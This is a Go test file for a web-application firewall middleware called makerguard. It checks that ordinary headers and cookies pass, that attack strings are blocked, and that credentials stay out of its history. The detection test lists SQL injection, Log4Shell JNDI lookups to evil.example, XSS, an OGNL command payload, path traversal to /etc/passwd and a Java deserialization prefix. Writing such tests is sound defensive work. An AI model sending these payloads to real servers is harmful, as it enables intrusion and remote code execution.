package middleware_test

import (
	"fmt"
	"net/http"
	"net/http/httptest"
	"slices"
	"strings"
	"testing"

	"github.com/makerguard/makerguard"
)

// ordinary are headers as browsers, proxies and programs send them.
var ordinary = http.Header{
	"User-Agent":       {"Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/140.0.0.0 Safari/537.36"},
	"Accept-Language":  {"de-DE,de;q=0.9,en;q=0.8"},
	"Content-Type":     {"application/json; charset=utf-8"},
	"Origin":           {"http://localhost:3000"},
	"Referer":          {"https://shop.example/products?page=2&sort=name"},
	"Forwarded":        {`for=192.0.2.60;proto=https;by=203.0.113.43, for="[2001:db8::1]:4711"`},
	"Via":              {"1.1 varnish (Varnish/7.1), 2.0 proxy"},
	"From":             {"bot@maker.example"},
	"X-Forwarded-For":  {"203.0.113.9, 10.0.0.1, 127.0.0.1"},
	"X-Forwarded-Host": {"localhost:8080"}, "X-Forwarded-Proto": {"https"}, "X-Forwarded-Port": {"443"}, "X-Real-Ip": {"::1"},
	"X-Requested-With": {"XMLHttpRequest"}, "X-Request-Id": {"9f6d7c0e-0f53-4f0b-a9b5-0d5c6f5d2a11"}, "X-Amzn-Trace-Id": {"Root=1-67891233-abcdef012345678912345678"},
	"X-Client-Version": {"makerguard-cli/1.2.3 (linux; amd64)"}, "X-Api-Key": {"c2VjcmV0--/+x="}, "X-Csrf-Token": {"x/y+z=="},
	"X-Forwarded-Client-Cert": {`Hash=468ed33be74eee6556d90c0149c1309e9ba61d6425303443c0748a02dd8de688;Subject="/C=US/CN=a"`},
	"Content-Disposition":     {`attachment; filename="prices (2026).csv"; filename*=UTF-8''prices%20%282026%29.csv`},
	"Authorization":           {"Bearer ' OR 1=1 --"},
	"Cookie": {`_ga=GA1.2.1234567890.1700000000; __utmz=1.1700000000.1.1.utmcsr=google|utmccn=(organic)|utmcmd=organic|utmctr=(not%20provided); ` +
		`mp_1_mixpanel=%7B%22distinct_id%22%3A%22%24device%3A18c%22%2C%22%24initial_referrer%22%3A%22%24direct%22%7D; ` +
		`OptanonConsent=isGpcEnabled=0&datestamp=Mon+Nov+23+2026+20%3A33%3A26+GMT%2B0100+(Mitteleurop%C3%A4ische+Normalzeit)&version=6.33.0&groups=C0001%3A1%2CC0002%3A0; ` +
		`AWSALB=9r/Ck3x+Q2o1v8p==; cookieconsent_status="dismiss"; session=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2ln-_x; connect.sid=s%3AabC-d_e.f%2FG%2Bh; theme=dark; lang=de-DE; csrftoken=a1b2; cart=[1,2,3]`},
}

func TestInspection_PassesOrdinaryHeaders(t *testing.T) {
	in := inspection(t, &history{})
	for range 2 { // not remembered, and remembered
		for _, f := range in.Head(nil, "/", "", ordinary) {
			t.Errorf("%s in %s: %q, want nothing", f.Rule, f.Input, f.Evidence)
		}
	}
	for _, host := range []string{"localhost:8080", "[::1]:443", "maker-1.example", "xn--brlle-0ra.example"} {
		r := httptest.NewRequest(http.MethodGet, "/", nil)
		r.Host = host
		if status, log, _ := send(t, r); status != http.StatusOK {
			t.Errorf("Host %q: %v, want nothing", host, log.rules())
		}
	}
}

func TestInspection_FindsAttacksInHeadersAndCookies(t *testing.T) {
	for _, tc := range []struct{ name, value, want string }{
		{"X-Forwarded-For", "127.0.0.1' OR '1'='1' -- ", "sqli."},
		{"Forwarded", "for=${jndi:ldap://evil.example/a}", "jndi.lookup"},
		{"X-Api-Version", "${jndi:ldap://evil.example/a}", "jndi.lookup"},
		{"Origin", "<script>alert(1)</script>", "xss.script"},
		{"Content-Type", "%{(#_='multipart/form-data').(#cmd='id').(#p=new java.lang.ProcessBuilder(#cmd))}", "code."},
		{"Content-Disposition", `attachment; filename="../../etc/passwd"`, "traversal."},
		{"From", "a@b.example\" ; <script>alert(1)</script>", "xss.script"},
		{"Cookie", "a=1; q=1%27%20OR%20%271%27%3D%271%27%20--%20; b=2", "sqli."},
		{"Cookie", `a="<script>alert(1)</script>"`, "xss.script"},
		{"Cookie", "<script>alert(1)</script>=1", "xss.script"},
		{"Cookie", "prefs=rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA", "deserialization.java"},
		{"Cookie", "page=../../../../etc/passwd", "traversal."},
	} {
		r := httptest.NewRequest(http.MethodGet, "/", nil)
		r.Header.Set(tc.name, tc.value)
		status, log, _ := send(t, r)
		if status != http.StatusForbidden || !slices.ContainsFunc(log.rules(), func(r string) bool { return strings.HasPrefix(r, tc.want) }) {
			t.Errorf("%s: %q: %d for %v, want 403 for %s", tc.name, tc.value, status, log.rules(), tc.want)
		}
		want := makerguard.InHeader
		if tc.name == "Cookie" {
			want = makerguard.InCookie
		}
		for _, f := range log.found {
			if f.Location != want {
				t.Errorf("%s: %s is in %s, want %s", tc.name, f.Rule, f.Location, want)
			}
		}
	}
	r := httptest.NewRequest(http.MethodGet, "/", nil)
	r.Host = "a.example'OR(1)=(1)--"
	if status, log, _ := send(t, r); status != http.StatusForbidden {
		t.Errorf("Host %q: %d for %v, want 403", r.Host, status, log.rules())
	}
}

// A clean cookie that was remembered does not vouch for another one, nor a header for a cookie.
func TestInspection_RemembersCleanCookiesOnly(t *testing.T) {
	in := inspection(t, &history{})
	for i := range 10_000 { // more than are remembered
		clean, hostile := fmt.Sprintf("a=%d", i), fmt.Sprintf("a=../../../../etc/passwd%d", i)
		for range 2 {
			if found := in.Head(nil, "/", "", http.Header{"Cookie": {clean}}); len(found) != 0 {
				t.Fatalf("%q: %v, want nothing", clean, found)
			}
			in.Head(nil, "/", "", http.Header{"User-Agent": {hostile}})
			if found := in.Head(nil, "/", "", http.Header{"Cookie": {hostile}}); len(found) == 0 {
				t.Fatalf("%q: nothing found", hostile)
			}
		}
	}
}

// goal: V16.2.5 — credentials are neither inspected into the history nor remembered.
func TestInspection_KeepsCredentialsOutOfTheHistory(t *testing.T) {
	const secret = "s3cr3t"
	for name, value := range map[string]string{
		"Authorization": "Bearer " + secret + injection,
		"X-Api-Key":     secret + injection,
		"X-Auth-Token":  secret + injection,
		"Cookie":        "__Host-mg_session=" + secret + injection + "; connect.sid=" + secret + injection + "; X_SESSION=" + secret + injection,
	} {
		log := &history{}
		in := inspection(t, log)
		found := in.Head(nil, "/", "", http.Header{name: {value}})
		for _, f := range found {
			if strings.Contains(f.Evidence, secret) || f.Evidence != "***" || strings.HasPrefix(f.Input, "__Host-mg_") {
				t.Errorf("%s: %s of %s keeps %q", name, f.Rule, f.Input, f.Evidence)
			}
		}
		if (name == "Cookie") != (len(found) > 0) {
			t.Errorf("%s: %d findings", name, len(found))
		}
	}
}

// BenchmarkHead is what stands before the body, of a program and of a browser.
func BenchmarkHead(b *testing.B) {
	for _, bm := range []struct {
		name    string
		headers []string
	}{
		{"program", []string{"User-Agent", "Authorization", "Content-Type"}},
		{"behind a proxy", []string{"User-Agent", "Authorization", "Content-Type", "X-Forwarded-For", "X-Forwarded-Proto", "X-Forwarded-Host", "X-Request-Id"}},
		{"browser with cookies", []string{"User-Agent", "Accept-Language", "Origin", "Referer", "Cookie"}},
	} {
		h := http.Header{"Accept": {"*/*"}, "Accept-Encoding": {"gzip"}}
		for _, name := range bm.headers {
			h[name] = ordinary[name]
		}
		b.Run(bm.name, func(b *testing.B) {
			in := inspection(b, &history{})
			b.ReportAllocs()
			for b.Loop() {
				if found := in.Head(nil, "/products/52_18-140", "page=2&sort=name", h); found != nil {
					b.Fatal(found)
				}
			}
		})
	}
}
